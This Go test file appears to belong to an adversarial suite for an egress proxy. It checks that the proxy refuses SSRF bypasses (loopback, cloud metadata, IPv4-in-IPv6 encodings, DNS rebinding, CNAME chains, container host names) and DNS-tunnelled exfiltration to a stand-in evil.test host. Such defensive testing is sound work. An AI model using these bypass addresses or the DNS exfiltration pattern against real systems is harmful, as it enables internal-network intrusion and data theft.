package attacks

import (
	"crypto/tls"
	"encoding/base32"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/ALRubinger/aileron/proxy"
)

// ipx: ways to make the plane reach a forbidden address.
func ipx() category {
	return category{name: "IPX", cases: join(written("addresses"), []attack{
		{id: "IPX-01", does: "this machine, by address or by name, is neither granted nor reached where unnamed hosts may " +
			"pass", run: func(c *testCase) {
			targets := []string{"127.0.0.1:443", "localhost:443", "0.0.0.0:443", "[::1]:443", "[::]:443", "127.255.255.254:443"}
			c.each("denied", func(c *testCase) { c.nowhere(hostNotAllowed, targets...) })
			c.elsewhere("passing", *passing(), func(c *testCase) {
				c.also = func(name string) bool { return name == "localhost" }
				on.names.answers(func(name string, _ bool) ([]netip.Addr, bool) {
					return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, name == "localhost" // where the hosts file is silent
				})
				c.nowhere(addressNotAllowed, targets...)
			})
		}},
		{id: "IPX-04", does: "IPv4 written as IPv6 is judged as what it is", f: passing(), run: func(c *testCase) {
			c.nowhere(addressNotAllowed, "[::ffff:169.254.169.254]:443", "[::ffff:7f00:1]:443", "[::127.0.0.1]:443",
				"[0:0:0:0:0:ffff:0a00:0001]:443")
		}},
		{id: "IPX-05", does: "IPv6 that carries an IPv4 address to a translator is not reached", f: passing(),
			run: func(c *testCase) {
				c.nowhere(addressNotAllowed, "[64:ff9b::a9fe:a9fe]:443", "[64:ff9b:1::a00:1]:443", "[2002:a9fe:a9fe::1]:443",
					"[2001:0:4136:e378:8000:63bf:3fff:fdd2]:443", "[2606::5efe:a00:1]:443")
			}},
		{id: "IPX-07", does: "an allowed name that leads inside is not followed", run: func(c *testCase) {
			for _, addr := range []string{"169.254.169.254", "127.0.0.1", "10.0.0.5", "fd00:ec2::254"} {
				c.elsewhere(addr, fixture{}, func(c *testCase) { // where no connection is open yet
					on.names.answers(always(netip.MustParseAddr(addr)))
					a := c.get("api.good.test", "/v1/items")
					c.refused("the request", a, addressNotAllowed)
					if text := fmt.Sprint(a.body, c.settledRows()); strings.Contains(text, addr) {
						c.failf("the address is told: %s", text)
					}
				})
			}
		}},
		{id: "IPX-08", does: "of a mixed answer only the public half is tried", f: &fixture{}, run: func(c *testCase) {
			l, err := net.Listen("tcp", "127.0.0.1:443")
			c.must(err)
			defer l.Close()
			deaf := netip.AddrPortFrom(places["alt.good.test"], 443)
			c.reaches = func(d dial) bool { return d.to == deaf }
			on.names.answers(always(deaf.Addr(), netip.MustParseAddr("127.0.0.1")))
			a := c.get("api.good.test", "/v1/items")
			c.refused("the request", a, unreachable)
		}},
		{id: "IPX-10", does: "aliases, mapped addresses and answers without end lead nowhere inside", run: ipxAnswers},
		{id: "IPX-11", does: "the names that engines give to their host do not lead to the plane", f: passing(),
			run: func(c *testCase) {
				_, port, err := net.SplitHostPort(c.s.addr)
				c.must(err)
				inside := map[string]string{"host.docker.internal": "192.168.65.2", "host.containers.internal": "10.88.0.1",
					"gateway.example": "172.17.0.1", "self.example": "127.0.0.1"}
				c.also = func(name string) bool { return inside[name] != "" }
				for name, addr := range inside {
					c.each(name, func(c *testCase) {
						c.also = func(name string) bool { return inside[name] != "" }
						on.names.answers(always(netip.MustParseAddr(addr)))
						c.nowhere(addressNotAllowed, name+":"+port)
					})
				}
				c.each("by address", func(c *testCase) {
					c.nowhere(addressNotAllowed, "172.17.0.1:"+port, "192.168.1.20:"+port, c.s.addr)
				})
			}},
		{id: "IPX-13", does: "hundreds of names that carry data are not resolved", run: func(c *testCase) {
			c.bulk = true
			const tunnels, conns, each = 25, 5, 55
			name := func(i int) string {
				return strings.ToLower(base32.HexEncoding.WithPadding(base32.NoPadding).EncodeToString(fmt.Appendf(nil,
					"stolen %04d", i))) + ".evil.test"
			}
			for i := range tunnels {
				c.refused("a tunnel", c.get(name(i), "/"), hostNotAllowed)
			}
			for i := range conns {
				raw, methods := "", []string{}
				for j := range each {
					host := name(tunnels + i*each + j)
					raw += "GET http://" + host + "/ HTTP/1.1\r\nHost: " + host + "\r\n" + c.authorization() + "\r\n"
					methods = append(methods, "GET")
				}
				c.rows += each
				for _, a := range c.say(c.dial(), raw, methods...) {
					c.refused("an absolute form", a, hostNotAllowed)
				}
			}
			c.untouched()
		}},
		{id: "IPX-14", does: "a name server that says nothing holds a request for a bounded time, and gives its place back",
			run: func(c *testCase) {
				c.elsewhere("silent", fixture{set: func(cfg *proxy.Config) {
					cfg.Upstream.Dial = time.Second
					cfg.Limits.Requests = 2
				}}, func(c *testCase) {
					on.names.says(func(*dnsmessage.Message) bool { return false })
					for range 5 { // more than there are places
						a := c.get("api.good.test", "/v1/items")
						c.refused("the request", a, upstreamTimeout)
					}
					c.untouched()
					on.names.says(nil)
				})
			}},
	})}
}

// passing is a session that lets unnamed hosts pass, so that the address
// floor alone stands between them and the inside.
func passing() *fixture {
	return &fixture{set: func(cfg *proxy.Config) { cfg.Passthrough = true }}
}

// elsewhere runs a variant in a world of its own.
func (c *testCase) elsewhere(name string, f fixture, run func(*testCase)) {
	c.t.Helper()
	w := newWorld(c.t, f)
	defer w.stop()
	for _, fail := range try(c.t, &w.subject, c.name+"/"+name, run, nil) {
		c.failf("%s: %s", name, fail)
	}
}

func always(addrs ...netip.Addr) func(string, bool) ([]netip.Addr, bool) {
	return func(string, bool) ([]netip.Addr, bool) { return addrs, true }
}

// nowhere asks for each target in a tunnel, as a client does, and in the
// absolute form.
func (c *testCase) nowhere(want refusal, targets ...string) {
	for _, target := range targets {
		host, _, err := net.SplitHostPort(target)
		c.must(err)
		l, a := c.connect(target)
		c.rows++
		if a.status == 200 {
			in, err := c.secure(l, &tls.Config{ServerName: host})
			if err != nil {
				c.failf("TLS in the tunnel to %s: %v", target, err)
				continue
			}
			a = c.say(in, head("GET", target, "/v1/items"), "GET")[0]
		}
		c.refused(target, a, want)
		a = c.fwd("GET http://" + target + "/v1/items HTTP/1.1\r\nHost: " + target + "\r\n" + c.authorization() + "\r\n")
		c.refused("the absolute form of "+target, a, want)
	}
	c.untouched()
}

func ipxAnswers(c *testCase) {
	corp, inside := "internal.corp.", netip.MustParseAddr("10.0.0.5")
	alias := func(m *dnsmessage.Message, from, to string) {
		m.Answers = append(m.Answers, dnsmessage.Resource{Body: &dnsmessage.CNAMEResource{CNAME: dnsmessage.MustNewName(to)},
			Header: dnsmessage.ResourceHeader{Name: dnsmessage.MustNewName(from), Class: dnsmessage.ClassINET, TTL: 1}})
	}
	address := func(m *dnsmessage.Message, name string, a netip.Addr) {
		h := dnsmessage.ResourceHeader{Name: dnsmessage.MustNewName(name), Class: dnsmessage.ClassINET, TTL: 1}
		if v6 := m.Questions[0].Type == dnsmessage.TypeAAAA; a.Is4() && !v6 {
			m.Answers = append(m.Answers, dnsmessage.Resource{Header: h, Body: &dnsmessage.AResource{A: a.As4()}})
		} else if a.Is6() && v6 {
			m.Answers = append(m.Answers, dnsmessage.Resource{Header: h, Body: &dnsmessage.AAAAResource{AAAA: a.As16()}})
		}
	}
	const asked = "api.good.test."
	for name, says := range map[string]func(*dnsmessage.Message){
		"an alias to the inside": func(m *dnsmessage.Message) {
			alias(m, asked, corp)
			address(m, corp, inside)
		},
		"IPv4 mapped into IPv6": func(m *dnsmessage.Message) { address(m, asked, netip.AddrFrom16(inside.As16())) },
		"forty aliases": func(m *dnsmessage.Message) {
			from := asked
			for i := range 40 {
				to := fmt.Sprintf("hop%d.corp.", i)
				alias(m, from, to)
				from = to
			}
			address(m, from, inside)
		},
		"aliases in a ring": func(m *dnsmessage.Message) { alias(m, asked, corp); alias(m, corp, asked) },
		"no end of records": func(m *dnsmessage.Message) {
			for i := range 4000 {
				address(m, asked, netip.AddrFrom4([4]byte{10, 1, byte(i >> 8), byte(i)}))
			}
		},
	} {
		c.elsewhere(name, fixture{}, func(c *testCase) {
			on.names.says(func(m *dnsmessage.Message) bool { says(m); return true })
			a := c.get("api.good.test", "/v1/items")
			want := addressNotAllowed
			if name == "aliases in a ring" {
				want = nameNotResolved
			}
			c.refused("the request", a, want)
			on.names.says(nil)
		})
	}
	c.elsewhere("no end of public records", fixture{}, func(c *testCase) {
		deaf := netip.AddrPortFrom(places["alt.good.test"], 443)
		tried := 0
		c.reaches = func(d dial) bool { tried++; return d.to == deaf && tried <= 16 }
		on.names.says(func(m *dnsmessage.Message) bool {
			for range 4000 {
				address(m, asked, deaf.Addr())
			}
			return true
		})
		c.refused("the request", c.get("api.good.test", "/v1/items"), unreachable)
		on.names.says(nil)
	})
}
